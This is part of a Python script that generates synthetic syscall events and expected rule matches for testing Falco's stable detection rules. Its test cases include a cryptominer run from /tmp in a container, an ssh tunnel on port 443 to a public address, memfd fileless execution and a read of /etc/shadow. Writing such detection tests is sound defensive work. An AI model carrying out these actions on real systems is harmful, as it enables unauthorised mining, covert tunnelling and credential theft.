    t = proc(8900, "xmrig", "/tmp/xmrig", ["--donate-level", "1"], {"pid": 8000, "name": "sh", "exepath": "/bin/sh", "exe": "sh", "sid": 8000, "container": copy.deepcopy(CT_WEB)}, exe="/tmp/xmrig", cwd="/tmp",
             container=copy.deepcopy(CT_WEB), exe_upper_layer=upper, sid=8000)
    t["pidns_init_start"] = (BASE - 86400) * 1000000000
    t["exe_ino_ctime"] = (BASE + i_ - 5) * 1000000000
    t["exe_ino_mtime"] = (BASE + i_ - 6) * 1000000000
    t["start_time"] = (BASE + i_) * 1000000000
    return t
k = nxt()
ev("drop-exec-pos", "execve", k, dropped(True, k), params=exec_params("/tmp/xmrig", ["--donate-level", "1"], "EXE_WRITABLE|EXE_UPPER_LAYER"),
   first=R23, why="executable in the overlayfs upper layer, in a container", comment="miner written into the container and run")
k = nxt()
ev("drop-exec-neg", "execve", k, dropped(False, k), params=exec_params("/tmp/xmrig", ["--donate-level", "1"], "EXE_LOWER_LAYER"),
   first=None, why="proc.is_exe_upper_layer is false (binary from the image)", comment="same binary shipped in the image")

# --- 24 ssh non standard port
def ssh_conn(sport, sip="203.0.113.10"):
    return dict(params=[P("res", "0", 0), P("tuple", f"192.168.1.10:51000->{sip}:{sport}"), P("fd", "3", 3)],
                fd={"num": 3, "type": "ipv4", "l4proto": "tcp", "cip": "192.168.1.10", "cport": 51000, "sip": sip, "sport": sport, "connected": True})
ev("ssh-port-pos", "connect", nxt(), proc(5500, "ssh", "/usr/bin/ssh", ["-p", "443", "tunnel@203.0.113.10"], bash_under_sshd(), exe="ssh"), res=0,
   **ssh_conn(443), first=R24, why="outbound TCP connect to a public address, proc.exe ends with ssh, server port 443 in ssh_non_standard_ports",
   comment="ssh over port 443")
ev("ssh-port-neg-22", "connect", nxt(), proc(5501, "ssh", "/usr/bin/ssh", ["tunnel@203.0.113.10"], bash_under_sshd(), exe="ssh"), res=0,
   **ssh_conn(22), first=None, why="port 22 is the standard ssh port", comment="ordinary ssh")
ev("ssh-port-neg-private", "connect", nxt(), proc(5502, "ssh", "/usr/bin/ssh", ["-p", "443", "admin@10.0.0.5"], bash_under_sshd(), exe="ssh"), res=0,
   **ssh_conn(443, "10.0.0.5"), first=None, why="10.0.0.5 is in rfc_1918_addresses, so the connection is not outbound", comment="internal jump host on 443")

# --- 25 memfd
ev("memfd-pos", "execve", nxt(), proc(5600, "payload", "memfd:payload", [], bash_under_sshd(), exe="memfd:payload", exe_from_memfd=True, cwd="/root"),
   params=exec_params("memfd:payload", [], "EXE_FROM_MEMFD"), first=R25, why="executable from memfd, not runc", comment="fileless payload")
ev("memfd-neg-runc", "execve", nxt(), proc(5601, "runc", "memfd:runc_cloned:/proc/self/exe", ["init"], {"pid": 6900, "name": "containerd-shim", "exepath": "/usr/bin/containerd-shim-runc-v2", "parent": copy.deepcopy(SYSTEMD)}, exe="runc", exe_from_memfd=True),
   params=exec_params("memfd:runc_cloned:/proc/self/exe", ["init"], "EXE_FROM_MEMFD"), first=None, why="runc clones itself into a memfd (known_memfd_execution_processes)",
   comment="runc's own memfd re-exec")

# --- extra: an event no rule can match (never_true placeholders need evt.num 0)
ev("unrelated-read", "read", nxt(), proc(5700, "cat", "/usr/bin/cat", ["/etc/shadow"], bash_under_sshd()), res=128,
   params=[P("res", "128", 128), P("data", "root:*:19000:0:99999:7:::")], fd={"num": 3, "type": "file", "name": "/etc/shadow"},
   first=None, why="read is not an event type of any rule", comment="reading is not opening")

def clean(o):
    if isinstance(o, dict):
        return {k: clean(v) for k, v in o.items() if v is not None}
    if isinstance(o, list):
        return [clean(v) for v in o]
    return o

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "events.jsonl"), "w") as f:
    f.write("# Syscall replay corpus for the stable Falco rules; see README.md and docs/replay-format.md.\n")
    for eid, e, first, all_, why in events:
        f.write(json.dumps(clean(e), separators=(",", ":")) + "\n")
with open(os.path.join(HERE, "expected.txt"), "w") as f:
    f.write("# Expected matches for events.jsonl under the upstream falco_rules.yaml (unmodified), with the resolver\n")
    f.write("# kubernetes.default.svc.cluster.local -> 10.96.0.1. Derived by reading the rule conditions, macros and lists,\n")
    f.write("# not by running lanner.\n")
    f.write("# id | first matching rule (rule_matching: first), - for none | all matching rules in file order | why\n")
    for eid, e, first, all_, why in events:
        f.write(f"{eid} | {first or '-'} | {'; '.join(all_) if all_ else '-'} | {why}\n")
print(len(events))
